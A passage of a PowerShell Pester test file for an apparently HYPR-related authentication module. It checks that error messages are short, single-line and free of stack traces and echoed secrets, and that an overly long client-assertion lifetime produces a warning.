        $message.Length | Should -BeLessThan 500
        $message | Should -Not -Match '[\r\n]' -Because 'one paragraph'
        if ($Advice) { $message | Should -Match $Advice }
        $message | Should -Not -Match '\bat [\w.`]+\(|System\.[\w.]*Exception|HyprAuth\.Core\.' `
            -Because 'a clear message, not a stack trace or an exception type'
        if ($ErrorId -notlike 'ParameterArgument*') {
            $record.Exception | Should -BeOfType ([HyprAuth.HyprException])
            $record.Exception.ErrorId | Should -BeExactly $ErrorId
            $record.Exception.InnerException | Should -BeNullOrEmpty
        }

        $text = Get-ErrorText $record
        foreach ($secret in @($(if ($Secret) { & $Secret }), $client.clientKey, $tokenValue)) {
            Find-Secret $text $secret | Should -BeNullOrEmpty -Because 'no secret is echoed'
        }
    }

    It 'a key error names what to pass instead (RecommendedAction)' {
        $record = (Get-Refusal { Get-HyprAccessToken -TenantUri $tenant -ClientId $client.clientId -ClientKey $keys.P384 }).Record
        $record.ErrorDetails.RecommendedAction | Should -Match 'P-256'
        $record.Exception.Message | Should -Match 'P-384'
    }
}

Describe 'A suspicious but usable value is a warning, not an error' {
    It 'a lifetime of 30 days signs, and warns with HYPR''s advice' {
        $warnings = $null
        $assertion = New-HyprClientAssertion -ClientId $client.clientId -ClientKey $client.clientKey -Lifetime '30.00:00:00' `
            -WarningVariable warnings -WarningAction SilentlyContinue
        ($assertion.Claims['exp'] - $assertion.Claims['iat']) | Should -Be (30 * 86400)
        @($warnings).Count | Should -Be 1
        "$($warnings[0])" | Should -Match '43200 minutes'
        "$($warnings[0])" | Should -Match 'HYPR recommends'
        "$($warnings[0])".Contains($assertion.Jwt) | Should -BeFalse
    }
}
